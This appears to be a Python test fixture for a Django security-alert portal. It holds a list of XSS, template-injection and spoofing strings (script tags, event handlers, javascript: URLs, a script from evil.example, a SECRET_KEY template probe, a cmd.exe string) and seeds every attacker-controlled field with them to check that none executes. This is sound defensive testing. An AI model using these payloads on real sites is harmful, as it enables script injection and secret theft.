"""A corpus of hostile strings and one seeded world where every attacker-controlled text field holds one of them.

Every script payload sets `window.__pwned` (or calls a dialog): the walk checks that nothing ever does.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta
from itertools import cycle
from typing import Any

PWN = "window.__pwned=1"

CORPUS: list[str] = [
    f"<script>{PWN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={PWN}>",
    f'"><img src=x onerror="{PWN}">',
    f"'><svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg/onload={PWN}>",
    f"<body onload={PWN}>",
    f"<iframe src=javascript:{PWN}>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    f" javascript:{PWN}",
    f"java\tscript:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    "vbscript:msgbox(1)",
    f"<a href=javascript:{PWN}>click me</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"<details open ontoggle={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<marquee onstart={PWN}>",
    f"<video><source onerror={PWN}>",
    f"<audio src=x onerror={PWN}>",
    f"<object data=javascript:{PWN}>",
    f"<embed src=javascript:{PWN}>",
    f"<link rel=stylesheet href=javascript:{PWN}>",
    f"<style>@import 'javascript:{PWN}';</style>",
    f'<div style="background:url(javascript:{PWN})">styled</div>',
    f"<meta http-equiv=refresh content='0;url=javascript:{PWN}'>",
    "<base href=//evil.example/>",
    f"<form action=javascript:{PWN}><button>go</button></form>",
    "{{7*7}}",
    "${7*7}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "#{7*7}",
    "<%= 7*7 %>",
    f"</textarea><script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"'-{PWN}-'",
    f'";{PWN};//',
    f"<!--<script>{PWN}</script>-->",
    f"<![CDATA[<script>{PWN}</script>]]>",
    '<img src="x" onerror="&#119;indow.__pwned=1">',
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "<div hx-get=/accounts/logout/ hx-trigger=load hx-target=body>htmx</div>",
    f"<div hx-on:htmx:load={PWN}>htmx-on</div>",
    "<div data-hx-post=/alerts/bulk/ data-hx-trigger=load>data-hx</div>",
    "<b>unclosed <i>markup <table><tr><td>broken",
    "A" * 3000,
    "ключ-хранилище 密钥保管库 مخزن المفاتيح 🔑🛡️ नमस्ते",
    "\u202egnp.exe",
    "Z" + "\u0301" * 40,
    "C:\\Windows\\System32\\cmd.exe /c calc",
    f"Mozilla/5.0 <script>{PWN}</script> (X11; Linux x86_64)",
]


def payloads() -> Any:
    return cycle(CORPUS)


@dataclass
class HostileWorld:
    owner: Any
    superuser: Any
    subscription: Any
    vault: Any
    alerts: list[Any]
    rule: Any
    incident: Any
    webhook: Any
    feedback: Any


def seed_hostile_world() -> HostileWorld:
    """One subscription whose every displayed text field that an attacker (or a careless admin) controls holds a
    payload: alerts (title, description, entities, extended properties, evidence, links, remediation, URIs),
    the vault, the subscription, a rule's comment, feedback, comments, a group queue, a saved view, a webhook,
    a sync run's errors, an audit record."""
    from django.contrib.auth.models import Group
    from django.db import transaction
    from django.utils import timezone

    from alerts.services import alerts_on_new
    from alerts.status import alert_set_status
    from feedback.services import feedback_submit
    from portal.accounts.models import Role, RoleAssignment
    from portal.testing.factories import (
        alert_item,
        grant,
        make_alerts,
        make_subscription,
        make_user,
        make_vault,
    )
    from suppression.models import SuppressionRule
    from sync.models import SyncRun
    from triage import services as triage
    from triage.models import Incident
    from triage.webhooks import webhook_save

    p = payloads()

    def many() -> (
        str
    ):  # free-text fields hold three payloads each, so that every field meets script-bearing ones
        return " ".join(next(p) for _ in range(3))

    sub = make_subscription(display_name=next(p), tags={next(p): next(p)})
    vault = make_vault(sub, name=f"kv-{next(p)}"[:100], resource_group=next(p)[:100], tags={"owner": next(p)})
    owner = make_user("hostile-owner")
    grant(owner, sub, Role.OWNER)
    superuser = make_user("hostile-root", superuser=True)
    items = []
    for n in range(6):
        when = timezone.now() - timedelta(hours=n + 1)
        item = alert_item(
            sub,
            vault=vault,
            n=9000 + n,
            when=when,
            correlation="hostile-corr" if n < 3 else "",
            alertDisplayName=next(p),
            description=many(),
            remediationSteps=[many(), many()],
            compromisedEntity=next(p),
            alertUri=next(p),
            intent=next(p),
            extendedProperties={next(p): many(), "User agent": many(), "Application": many()},
            extendedLinks=[{"Href": next(p), "Label": next(p), "Category": next(p), "Type": "webLink"}],
            supportingEvidence={
                "type": "tabularEvidences",
                "title": next(p),
                "columns": [next(p), next(p)],
                "rows": [[many(), many()]],
            },
            techniques=[next(p)],
            user=next(p),
        )
        item["properties"]["entities"].append(
            {"$id": "9", "type": "host", "hostName": next(p), "osVersion": next(p)}
        )
        item["properties"]["entities"].append({"$id": "10", "type": next(p)[:40], "name": next(p)})
        items.append(item)
    alerts = make_alerts(sub, items)
    with transaction.atomic():
        alerts_on_new(alert_ids=[a.pk for a in alerts], subscription_pk=sub.pk, backlog=True)
    queue = Group.objects.create(name=next(p)[:150])
    RoleAssignment.objects.create(subscription=sub, group=queue, role=Role.READER)
    with transaction.atomic():
        triage.alert_assign(user=owner, alert=alerts[0], group=queue)
        triage.alert_assign(user=owner, alert=alerts[1], assignee=owner)
        for alert in alerts[:3]:
            triage.comment_add(user=owner, alert=alert, body=many())
        alert_set_status(
            user=owner, alert=alerts[2], status="Dismissed", classification="FalsePositive", comment=many()
        )
        feedback = feedback_submit(
            user=owner, alert=alerts[0], useful=False, reason="NotRelevant", text=many(), may_contact=True
        )
        triage.saved_view_save(user=owner, name=next(p)[:80], query="severity=High", shared=True)
    rule = SuppressionRule.objects.create(
        subscription=sub,
        name="hostile-rule",
        alert_type="KV_TORAccess",
        reason="Other",
        comment=many(),
        local_only=True,
        conditions=[{"field": "entities.ip.address", "in": [next(p)]}],
    )
    webhook, _ = webhook_save(
        user=owner,
        subscription=sub,
        name=next(p)[:80],
        url="https://hooks.example.com/" + "%3Cscript%3E",
        events=["alert.created"],
    )
    SyncRun.objects.create(
        subscription=sub,
        status="failed",
        trigger="test",
        started_at=timezone.now(),
        finished_at=timezone.now(),
        errors=[next(p), {"detail": next(p)}],
    )
    return HostileWorld(
        owner=owner,
        superuser=superuser,
        subscription=sub,
        vault=vault,
        alerts=alerts,
        rule=rule,
        incident=Incident.objects.get(correlation_key="hostile-corr"),
        webhook=webhook,
        feedback=feedback,
    )
